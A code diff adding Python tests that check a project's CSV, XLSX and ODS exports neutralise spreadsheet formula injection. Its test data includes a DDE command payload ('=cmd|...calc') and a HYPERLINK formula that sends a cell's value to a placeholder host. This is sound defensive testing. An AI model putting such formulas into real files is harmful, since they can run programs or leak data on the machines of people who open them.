@@ -209,3 +209,41 @@ def test_code_filter_shows_markdown_as_text():
         rendered = markdown.markdown(f"- **Où** : {escape.code(value)}", extensions=["tables", "attr_list", "md_in_html"])
         assert "<a" not in rendered and "<img" not in rendered and "<strong>c" not in rendered, rendered
         assert html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip() == f"Où : {value}"
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("https://exemple.invalid/?v="&A1;"clic")', "+33 6 00 00 00 00", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_csv_cells_never_start_a_formula():
+    from acia.exports import matrix
+
+    header = ["Candidature", "=titre piégé"]
+    rows = [[value, value] for value in FORMULAS] + [["ok", -2.5], ["négatif", -3], ["texte normal", "Association U Ponte"]]
+    import csv
+    import io
+
+    read = list(csv.reader(io.StringIO(matrix.rows_as_csv(header, rows), newline=""), delimiter=";"))
+    assert read[0] == ["Candidature", "'=titre piégé"]
+    for line, value in zip(read[1:], FORMULAS, strict=False):
+        assert line == ["'" + value.replace("\r", "\n")] * 2  # a lone CR would split the row: it becomes a line break
+    assert read[-3:] == [["ok", "-2,50"], ["négatif", "-3"], ["texte normal", "Association U Ponte"]]  # numbers stay numbers
+
+
+def test_ods_and_xlsx_write_text_cells_as_strings_never_formulas(tmp_path):
+    import zipfile
+    from datetime import UTC, datetime
+
+    import openpyxl
+
+    from acia.exports import spreadsheet
+
+    rows = [[value, 1.5] for value in FORMULAS]
+    spreadsheet.write_xlsx(tmp_path / "m.xlsx", "Matrice", ["Texte", "Nombre"], rows, "Titre", datetime(2023, 8, 1, tzinfo=UTC))
+    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx").active
+    cells = [row for row in sheet.iter_rows() if row[1].value == 1.5]
+    assert len(cells) == len(FORMULAS) and cells[0][0].value == FORMULAS[0]
+    assert all(text.data_type == "s" and number.data_type == "n" for text, number in cells)
+    spreadsheet.write_ods(tmp_path / "m.ods", "Matrice", ["Texte", "Nombre"], rows, "Titre", datetime(2023, 8, 1, tzinfo=UTC))
+    content = zipfile.ZipFile(tmp_path / "m.ods").read("content.xml").decode("utf-8")
+    assert "table:formula" not in content and 'office:value-type="float"' in content
+    assert content.count('office:value-type="string"') >= len(FORMULAS)
